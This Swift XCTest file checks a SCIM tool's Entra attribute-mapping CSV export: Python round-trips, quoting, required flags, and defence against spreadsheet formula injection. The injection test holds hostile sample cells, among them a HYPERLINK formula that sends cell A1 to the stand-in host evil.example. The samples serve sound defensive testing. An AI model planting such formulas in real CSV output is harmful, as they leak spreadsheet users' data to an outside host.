import Foundation
import XCTest
@testable import SCIMGenKit

/// `attribute-mappings.csv` read back by Python's `csv` module (`Tests/Tools/check_csv.py`) and
/// compared with the descriptors it came from.
final class EntraMappingCSVTests: XCTestCase {
    private var folder: URL!

    override func setUpWithError() throws {
        folder = FileManager.default.temporaryDirectory.appendingPathComponent("entra-csv-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
    }

    override func tearDownWithError() throws {
        try? FileManager.default.removeItem(at: folder)
    }

    /// Writes each CSV to the scratch folder and returns the rows Python read, header first.
    private func readBack(_ files: [String: [UInt8]], file: StaticString = #filePath, line: UInt = #line) throws
        -> [String: [[String]]]
    {
        var paths: [String: String] = [:]
        for (name, bytes) in files {
            let url = folder.appendingPathComponent(name.replacingOccurrences(of: "/", with: "_"))
            try Data(bytes).write(to: url)
            paths[url.path] = name
        }
        let output = try runChecker(paths.keys.sorted(), file: file, line: line)
        let parsed = try JSONParser.parse(Array(output.utf8))
        var result: [String: [[String]]] = [:]
        for member in parsed.objectMembers ?? [] {
            let rows = (member.value.arrayValue ?? []).map { ($0.arrayValue ?? []).map { $0.stringValue ?? "<not a string>" } }
            result[paths[member.key] ?? member.key] = rows
        }
        XCTAssertEqual(result.keys.sorted(), files.keys.sorted(), file: file, line: line)
        return result
    }

    /// Runs the checker; a missing Python fails the test with instructions, never skips it.
    private func runChecker(_ arguments: [String], file: StaticString, line: UInt) throws -> String {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        process.arguments = ["python3", Repository.root.appendingPathComponent("Tests/Tools/check_csv.py").path] + arguments
        let output = Pipe()
        let errors = Pipe()
        process.standardOutput = output
        process.standardError = errors
        do {
            try process.run()
        } catch {
            XCTFail("cannot start python3 through /usr/bin/env: \(error); install Python 3 to run this test", file: file, line: line)
            throw error
        }
        let out = output.fileHandleForReading.readDataToEndOfFile()
        let err = String(decoding: errors.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        process.waitUntilExit()
        if process.terminationStatus == 127 {
            XCTFail("python3 is not installed (\(err.trimmingCharacters(in: .whitespacesAndNewlines))); install Python 3 to run this test", file: file, line: line)
        }
        XCTAssertEqual(process.terminationStatus, 0, "check_csv.py: \(err)", file: file, line: line)
        return String(decoding: out, as: UTF8.self)
    }

    // MARK: - Tests

    /// The CSV holds exactly the definitions of `entra-mappings.json`, read from that file with the
    /// JSON parser, with their mappings, plus the vendor's "on request" attributes marked so.
    func testEveryVendorsCSVHoldsExactlyTheRowsOfItsJSON() throws {
        var files: [String: [UInt8]] = [:]
        for vendor in EntraTestSupport.vendors {
            let name = "\(vendor.id)/mappings/attribute-mappings.csv"
            files[name] = EntraMappingOutput.files(for: vendor)[name]
        }
        let read = try readBack(files)
        for vendor in EntraTestSupport.vendors {
            let rows = try XCTUnwrap(read["\(vendor.id)/mappings/attribute-mappings.csv"])
            XCTAssertEqual(rows.first, EntraMappingCSV.header)
            let json = try EntraTestSupport.parse(try XCTUnwrap(EntraMappingOutput.files(for: vendor)["\(vendor.id)/mappings/entra-mappings.json"]))
            XCTAssertEqual(rows.dropFirst().map { Expected(csv: $0) }, Expected.rows(json: json, vendor: vendor.descriptor), vendor.id)
        }
    }

    func testQuotingRoundTripsThroughPython() throws {
        let vendor = try VendorDescriptor(
            id: "quotes", file: "vendor.json", name: "Quotes",
            credentials: Credentials(steps: [CredentialStep(text: "Copy the token.")]),
            users: AttributeTable(attributes: [
                AttributeMapping(path: "userName", type: .string, filterable: true, matching: 1),
                AttributeMapping(path: "title", type: .string, source: .constant("a, \"b\"\r\nc ü")),
                AttributeMapping(path: "nickName", type: .string, source: .expression("Join(\",\", [givenName], [surname])"), fieldRef: "x, \"y\""),
            ])).checked()
        let name = "quotes/mappings/attribute-mappings.csv"
        let bytes = try XCTUnwrap(EntraMappingOutput.files(for: vendor)[name])
        XCTAssertEqual(
            String(decoding: bytes, as: UTF8.self),
            EntraMappingCSV.header.joined(separator: ",") + "\r\n"
                + "User,userName,Direct,userPrincipalName,entra,,1,Always,FlowWhenChanged,String,,true,,mapped\r\n"
                + "User,title,Constant,\"a, \"\"b\"\"\r\nc ü\",vendor,,,Always,FlowWhenChanged,String,,false,,mapped\r\n"
                + "User,nickName,Expression,\"Join(\"\",\"\", [givenName], [surname])\",vendor,,,Always,FlowWhenChanged,String,,false,\"x, \"\"y\"\"\",mapped\r\n")
        let rows = try XCTUnwrap(try readBack([name: bytes])[name])
        XCTAssertEqual(rows.map { $0[3] }, ["source", "userPrincipalName", "a, \"b\"\r\nc ü", "Join(\",\", [givenName], [surname])"])
        XCTAssertEqual(rows.last?[12], "x, \"y\"")
    }

    /// OWASP's "CSV Injection": no cell begins with '=', '+', '-', '@', tab, CR or LF; such a cell
    /// begins with "'" and reads back, through Python's csv module, as the value after it.
    func testFormulaCellsAreNeutralized() throws {
        let hostile = ["=HYPERLINK(\"https://evil.example/?\"&A1, \"Click\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1", "\n=1"]
        var rows: [AttributeMapping] = [AttributeMapping(path: "userName", type: .string, filterable: true, matching: 1)]
        let targets = ["title", "nickName", "displayName", "locale", "timezone", "preferredLanguage", "userType"]
        for (target, value) in zip(targets, hostile) {
            // A field ref is one line; the others hold any text.
            let fieldRef = value.contains(where: \.isNewline) ? nil : value
            rows.append(AttributeMapping(path: target, type: .string, source: .constant(value), fieldRef: fieldRef, defaultValue: value))
        }
        let vendor = VendorDescriptor(
            id: "formulas", file: "vendor.json", name: "Formulas",
            credentials: Credentials(steps: [CredentialStep(text: "Copy the token.")]), users: AttributeTable(attributes: rows))
        let name = "formulas/mappings/attribute-mappings.csv"
        let bytes = try XCTUnwrap(EntraMappingOutput.files(for: try vendor.checked())[name])
        let read = try XCTUnwrap(try readBack([name: bytes])[name])
        for (index, value) in hostile.enumerated() {
            let row = read[index + 2]
            for column in value.contains(where: \.isNewline) ? [3, 5] : [3, 5, 12] {
                // "\r=1" also gets a "'" after its line break, where a row starts for a program that splits on `;`.
                let expected = value == "\r=1" ? "'\r'=1" : value == "\n=1" ? "'\n'=1" : "'" + value
                XCTAssertEqual(row[column], expected, "column \(EntraMappingCSV.header[column]) of '\(value)'")
                XCTAssertEqual(EntraMappingCSV.neutralized(value), expected)
            }
        }
        for row in read {
            for cell in row {
                XCTAssertFalse(cell.unicodeScalars.first.map(EntraMappingCSV.formulaStarts.contains) ?? false, "'\(cell)' starts a formula")
            }
        }
        // Where a spreadsheet that splits on `;` (or LibreOffice on tabs) starts a cell inside a field, no
        // formula starts either: check_csv.py reads the file that way too.
        let separated = ["x;=1+2", "y\t@SUM(A1)", "z;-1;+2", "a\r\n=b", "c;d"]
        let separatedVendor = VendorDescriptor(
            id: "separators", file: "vendor.json", name: "Separators",
            credentials: Credentials(steps: [CredentialStep(text: "Copy the token.")]),
            users: AttributeTable(attributes: [AttributeMapping(path: "userName", type: .string, filterable: true, matching: 1)]
                + zip(targets, separated).map { AttributeMapping(path: $0, type: .string, source: .constant($1)) }))
        let separatedName = "separators/mappings/attribute-mappings.csv"
        let separatedBytes = try XCTUnwrap(EntraMappingOutput.files(for: try separatedVendor.checked())[separatedName])
        let separatedRows = try XCTUnwrap(try readBack([separatedName: separatedBytes])[separatedName])
        XCTAssertEqual(separatedRows.dropFirst(2).map { $0[3] }, ["x;'=1+2", "y\t'@SUM(A1)", "z;'-1;'+2", "a\r\n'=b", "c;d"])
        // Cells that only contain those characters later are left as they are.
        XCTAssertEqual(EntraMappingCSV.neutralized("a=b"), "a=b")
        XCTAssertEqual(EntraMappingCSV.neutralized(""), "")
    }

    /// The descriptor's `required` reaches the CSV and the vendor's Entra definitions, row by row.
    func testRequiredReachesTheCSVAndTheDefinitions() throws {
        let vendor = VendorDescriptor(
            id: "required", file: "vendor.json", name: "Required",
            credentials: Credentials(steps: [CredentialStep(text: "Copy the token.")]),
            users: AttributeTable(attributes: [
                AttributeMapping(path: "userName", type: .string, filterable: true, required: true, matching: 1),
                AttributeMapping(path: "active", type: .boolean, required: false),
                AttributeMapping(path: "name.givenName", type: .string, required: true),
                AttributeMapping(path: "title", type: .string),
                AttributeMapping(path: "urn:ietf:params:scim:schemas:extension:acme:2.0:User:costCode", type: .string),
            ]),
            extensions: [
                ExtensionSchema(
                    id: "urn:ietf:params:scim:schemas:extension:acme:2.0:User", name: "AcmeUser",
                    attributes: [
                        ExtensionAttribute(name: "costCode", type: .string, required: true),
                        ExtensionAttribute(name: "region", type: .string, required: true),
                        ExtensionAttribute(name: "badge", type: .string),
                    ])
            ])
        let files = EntraMappingOutput.files(for: try vendor.checked())
        let csv = try XCTUnwrap(try readBack(["required/mappings/attribute-mappings.csv": try XCTUnwrap(files["required/mappings/attribute-mappings.csv"])]).values.first)
        // The rows' marks, then the extension schema's own (a row that says nothing takes the schema's).
        let acme = "urn:ietf:params:scim:schemas:extension:acme:2.0:User:"
        XCTAssertEqual(
            csv.dropFirst().map { [$0[1], $0[10]] },
            [
                ["userName", "true"], ["active", "false"], ["name.givenName", "true"], ["title", ""], [acme + "costCode", "true"],
                [acme + "region", "true"], [acme + "badge", ""],
            ])
        let json = try EntraTestSupport.parse(try XCTUnwrap(files["required/mappings/entra-mappings.json"]))
        let definitions = json["directories"]?.array?.first?["objects"]?.array?.first?["attributes"]?.array ?? []
        XCTAssertEqual(
            definitions.map { $0["required"] },
            [JSONValue.bool(true), .bool(false), .bool(true), nil, .bool(true), .bool(true), nil] as [JSONValue?])
    }

    func testBrokenCSVIsRejectedByTheChecker() throws {
        let url = folder.appendingPathComponent("bad.csv")
        try Data("a,b\r\n\"x,y\r\n".utf8).write(to: url)
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        process.arguments = ["python3", Repository.root.appendingPathComponent("Tests/Tools/check_csv.py").path, url.path]
        process.standardOutput = Pipe()
        process.standardError = Pipe()
        try process.run()
        process.waitUntilExit()
        XCTAssertEqual(process.terminationStatus, 1, "the checker must be able to fail")
    }
}

/// The columns a row must have, worked out from `entra-mappings.json` as a JSON document and from
/// the descriptor's rows, without the CSV's code paths.
private struct Expected: Equatable, CustomStringConvertible {
    var fields: [String]

    init(csv row: [String]) { fields = row }

    init(_ fields: [String]) { self.fields = fields }

    var description: String { fields.joined(separator: "|") }

    static func rows(json: JSONValue, vendor: VendorDescriptor) -> [Expected] {
        var result: [Expected] = []
        let objects = json["directories"]?.array?.first?["objects"]?.array ?? []
        let mappings = json["synchronizationRules"]?.array?.first?["objectMappings"]?.array ?? []
        let refs = (vendor.customFieldMappings?.allowedAttributes ?? []).map { ($0.path.lowercased(), $0.fieldRef ?? "") }
        for (index, object) in objects.enumerated() {
            let resource = index == 0 ? "User" : "Group"
            let table = index == 0 ? vendor.users : vendor.groups
            let attributeMappings = index < mappings.count ? mappings[index]["attributeMappings"]?.array ?? [] : []
            var names: [String] = []
            for definition in object["attributes"]?.array ?? [] {
                let name = definition["name"]?.string ?? "?"
                names.append(name.lowercased())
                let row = table?.attributes.first { canonical($0.path) == name.lowercased() }
                var fields = [resource, name]
                if let mapping = attributeMappings.first(where: { $0["targetAttributeName"]?.string == name }) {
                    let source = mapping["source"]
                    let type = source?["type"]?.string
                    let mappingType = ["Attribute": "Direct", "Function": "Expression", "Constant": "Constant"][type ?? ""] ?? "?"
                    let text = type == "Function" ? source?["expression"]?.string : source?["name"]?.string
                    let priority = mapping["matchingPriority"].flatMap { value -> String? in
                        if case .number(let text) = value { return text == "0" ? "" : text }
                        return nil
                    } ?? "?"
                    fields += [
                        mappingType, text ?? "?", row?.source == nil ? "entra" : "vendor", mapping["defaultValue"]?.string ?? "",
                        priority, mapping["flowType"]?.string ?? "Always", mapping["flowBehavior"]?.string ?? "FlowWhenChanged",
                    ]
                } else {
                    fields += ["", "", "", "", "", "", ""]
                }
                let required: String
                switch definition["required"] {
                case .bool(let flag)?: required = "\(flag)"
                default: required = ""
                }
                let ref = row?.fieldRef ?? (index == 0 ? refs.first { canonical($0.0) == name.lowercased() }?.1 ?? "" : "")
                fields += [
                    definition["type"]?.string ?? "?", required, row.map { "\($0.filterable)" } ?? "", ref,
                    fields[2].isEmpty ? "unmapped" : "mapped",
                ]
                result.append(Expected(fields.map(EntraMappingCSV.neutralized)))
            }
            if index == 0 {
                for allowed in vendor.customFieldMappings?.allowedAttributes ?? [] where !names.contains(canonical(allowed.path)) {
                    names.append(canonical(allowed.path))
                    result.append(
                        Expected(["User", allowed.path, "", "", "", "", "", "", "", "String", "", "", allowed.fieldRef ?? "", "on request (not in entra-mappings.json)"]))
                }
            }
        }
        return result
    }

    /// The committed descriptors write paths as Entra names them, ignoring case.
    static func canonical(_ path: String) -> String { path.lowercased() }
}
